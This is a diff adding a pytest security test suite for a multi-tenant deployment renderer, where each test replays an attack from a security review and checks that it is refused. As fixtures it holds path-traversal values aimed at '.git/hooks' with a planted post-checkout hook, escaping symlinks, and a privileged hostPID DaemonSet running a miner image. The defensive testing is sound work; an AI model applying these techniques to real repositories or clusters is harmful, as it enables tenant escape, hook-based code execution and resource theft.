@@ -1,0 +1,186 @@
+"""A hostile tenant's pull request or deploy reaches only what that tenant owns.
+
+Each test replays one attack from the security review (docs/security.md) on a copy of
+this repository and asserts the refusal: a clear problem, and nothing written.
+"""
+
+from __future__ import annotations
+
+import os
+from pathlib import Path
+
+import pytest
+
+from render import cache, emit, fleet
+from tests.flow_repo import clone, commit_all, git, make_origin, tag_release
+from tests.support import copy_repo, dataplane, snapshot, write
+
+
+def test_a_committed_cache_is_never_read(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
+                                         capsys: pytest.CaptureFixture[str]) -> None:
+    """A forged .cache/dataplane/ entry committed with hand-edited output (another
+    tenant's secret keys) cannot stand in for rendering: the cache lives outside the
+    checkout, so --check renders acme and sees the edit."""
+    root = copy_repo(tmp_path / "repo")
+    monkeypatch.setenv("HOME", str(tmp_path / "home"))
+    monkeypatch.delenv("XDG_CACHE_HOME", raising=False)
+    monkeypatch.delenv("DATAPLANE_CACHE_DIR")
+    honest = fleet.render_fleet(root, ["acme"], use_cache=False)
+    forged = {scope: dict(files) for scope, files in honest.outputs.items()}
+    path = next(p for p, data in sorted(forged["rendered/acme"].items()) if b"tenants/acme/" in data)
+    forged["rendered/acme"][path] = forged["rendered/acme"][path].replace(b"tenants/acme/", b"tenants/globex/")
+    (root / path).write_bytes(forged["rendered/acme"][path])
+    cache.Store(root / ".cache" / "dataplane").put(honest.keys["rendered/acme"], forged)  # as the old default had it
+    capsys.readouterr()
+    assert dataplane(root, "render", "--check") == 1
+    assert f"stale: {path}" in capsys.readouterr().out
+
+
+def test_a_cache_folder_inside_the_repository_is_refused(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
+                                                         capsys: pytest.CaptureFixture[str]) -> None:
+    root = copy_repo(tmp_path / "repo")
+    before = snapshot(root)
+    monkeypatch.setenv("DATAPLANE_CACHE_DIR", str(root / ".cache" / "dataplane"))
+    assert dataplane(root, "render") == 2
+    err = capsys.readouterr().err
+    assert "inside the repository" in err and "DATAPLANE_CACHE_DIR" in err and "Traceback" not in err
+    assert snapshot(root) == before and not (root / ".cache").exists()
+    assert dataplane(root, "render", "--no-cache", "--check") == 0  # without a cache there is nothing to refuse
+
+
+@pytest.mark.parametrize("planted", [
+    "argocd/tenants/zz.yaml",  # a file beside the tenants' folders
+    "argocd/extra/app.yaml",  # a folder of no tenant
+    "control-plane/extra/routing.yaml",
+    "rendered/.hidden/daemonset.yaml",  # a dot-name
+    "rendered/acme/.x/daemonset.yaml",  # inside a tenant's own folder
+    "control-plane/routing/ghost/configmap.yaml",  # a tenant that does not exist
+    "argocd/root.yaml",
+])
+def test_foreign_files_in_the_generated_trees_fail_check_and_are_removed(
+        tmp_path: Path, planted: str, capsys: pytest.CaptureFixture[str]) -> None:
+    root = copy_repo(tmp_path)
+    before = snapshot(root)
+    write(root, {planted: "apiVersion: argoproj.io/v1alpha1\nkind: AppProject\n"})
+    capsys.readouterr()
+    assert dataplane(root, "render", "--check") == 1
+    assert f"extra: {planted}" in capsys.readouterr().out
+    assert dataplane(root, "render") == 0
+    assert snapshot(root) == before
+
+
+def test_a_symlink_in_the_generated_trees_is_removed_not_followed(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    root = copy_repo(tmp_path / "repo")
+    outside = tmp_path / "outside"
+    outside.mkdir()
+    (outside / "keep.txt").write_text("not the engine's")
+    os.symlink(outside, root / "argocd/tenants/evil")
+    os.symlink(outside / "keep.txt", root / "rendered/acme/link.yaml")
+    capsys.readouterr()
+    assert dataplane(root, "render", "--check") == 1
+    out = capsys.readouterr().out
+    assert "extra: argocd/tenants/evil" in out and "extra: rendered/acme/link.yaml" in out
+    assert dataplane(root, "render") == 0
+    assert not os.path.lexists(root / "argocd/tenants/evil") and not os.path.lexists(root / "rendered/acme/link.yaml")
+    assert (outside / "keep.txt").read_text() == "not the engine's"
+
+
+@pytest.mark.parametrize("recorded", ["../../escape", "/tmp/escape", "rendered/../../escape", "tenants/acme",
+                                      "rendered/globex", ".git/hooks"])
+def test_a_committed_staging_folder_cannot_name_a_destination(tmp_path: Path, recorded: str,
+                                                              capsys: pytest.CaptureFixture[str]) -> None:
+    """rendered/.x.old-k3j9x0ab/ with a `scope` file: recovery used to rename its `x`
+    folder to whatever the file said (a git hooks folder outside the checkout, say)."""
+    root = copy_repo(tmp_path / "repo")
+    before = snapshot(root)
+    planted = root / "rendered/.x.old-k3j9x0ab"
+    (planted / "x").mkdir(parents=True)
+    (planted / "x" / "post-checkout").write_text("#!/bin/sh\necho pwned\n")
+    (planted / "scope").write_text(recorded)
+    assert dataplane(root, "render", "--check") == 1  # checking writes nothing, and names it
+    assert "extra: rendered/.x.old-k3j9x0ab/" in capsys.readouterr().out
+    assert planted.is_dir()
+    assert dataplane(root, "render") == 0
+    assert "removed rendered/.x.old-k3j9x0ab" in capsys.readouterr().err
+    assert snapshot(root) == before
+    assert not (tmp_path / "escape").exists() and not (root / ".git").exists()
+    assert sorted(p.name for p in tmp_path.iterdir()) == ["repo"]
+
+
+def test_recovery_refuses_a_symlink_on_the_way(tmp_path: Path) -> None:
+    root = copy_repo(tmp_path / "repo")
+    outside = tmp_path / "outside"
+    outside.mkdir()
+    (root / "control-plane/routing").rename(tmp_path / "routing-moved")
+    os.symlink(outside, root / "control-plane/routing")  # control-plane/routing -> outside the checkout
+    retired = root / "control-plane/.acme.old-abcdefgh"
+    (retired / "x").mkdir(parents=True)
+    (retired / "scope").write_text("control-plane/routing/acme")
+    emit.recover(root)
+    assert list(outside.iterdir()) == [] and not retired.exists()
+
+
+DAEMONSET = """---
+apiVersion: apps/v1
+kind: DaemonSet
+metadata:
+  name: miner
+  namespace: {{ namespace | j }}
+spec:
+  selector: {matchLabels: {app: miner}}
+  template:
+    metadata: {labels: {app: miner}}
+    spec:
+      hostPID: true
+      containers:
+        - name: miner
+          image: docker.io/evil/miner:latest
+          securityContext: {privileged: true}
+"""
+
+
+def _pin(work: Path, tenant: str, revision: str) -> None:
+    release = work / f"tenants/{tenant}/release.yaml"
+    release.write_text(release.read_text() + f'platform_revision: "{revision}"\n')
+
+
+def test_a_pull_request_cannot_pin_its_own_commit(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    """Commit 1 rewrites base/ (a privileged DaemonSet); commit 2 restores base/ and pins
+    acme to commit 1. The PR's net diff is one line of release.yaml."""
+    work = clone(make_origin(tmp_path), tmp_path / "work")
+    git(work, "checkout", "-q", "-b", "attack")
+    (work / "base/miner.yaml.j2").write_text(DAEMONSET)
+    evil = commit_all(work, "innocent refactor")
+    (work / "base/miner.yaml.j2").unlink()
+    _pin(work, "acme", evil)
+    commit_all(work, "pin acme")
+    before = snapshot(work)
+    capsys.readouterr()
+    assert dataplane(work, "validate") == 2
+    err = capsys.readouterr().err
+    assert f"tenants/acme/release.yaml:5:1: platform_revision: {evil[:12]} is not a platform release" in err
+    assert dataplane(work, "render") == 2 and snapshot(work) == before
+    # Even a tag on it does not help: a release must be on main.
+    tag_release(work, evil, publish=False)
+    capsys.readouterr()
+    assert dataplane(work, "validate") == 2
+    assert "is not on main" in capsys.readouterr().err
+    # A lightweight tag is no release either (platform-update writes annotated ones).
+    git(work, "checkout", "-q", "main")
+    git(work, "tag", "platform/9.9.9/lightweight", "HEAD")
+    _pin(work, "acme", git(work, "rev-parse", "HEAD"))
+    assert dataplane(work, "validate") == 2
+
+
+def test_a_template_rendering_a_kind_outside_tenant_kinds_is_refused(tmp_path: Path,
+                                                                      capsys: pytest.CaptureFixture[str]) -> None:
+    root = copy_repo(tmp_path)
+    before = snapshot(root)
+    write(root, {"base/miner.yaml.j2": DAEMONSET})
+    capsys.readouterr()
+    assert dataplane(root, "render") == 2
+    err = capsys.readouterr().err
+    assert "rendered/acme/daemonset-miner.yaml is a apps/DaemonSet, which no tenant Application may sync" in err
+    assert snapshot(root) == before
+    projects = (root / "argocd/tenants/acme/appproject-tenant-acme.yaml").read_text()
+    assert "DaemonSet" not in projects
